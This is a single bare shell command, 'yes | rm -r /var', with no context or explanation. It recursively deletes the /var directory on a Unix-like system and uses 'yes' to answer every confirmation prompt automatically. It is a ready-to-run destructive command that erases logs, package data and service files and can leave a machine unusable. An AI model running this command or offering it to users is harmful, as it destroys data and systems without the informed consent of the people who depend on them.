yes | rm -r /var
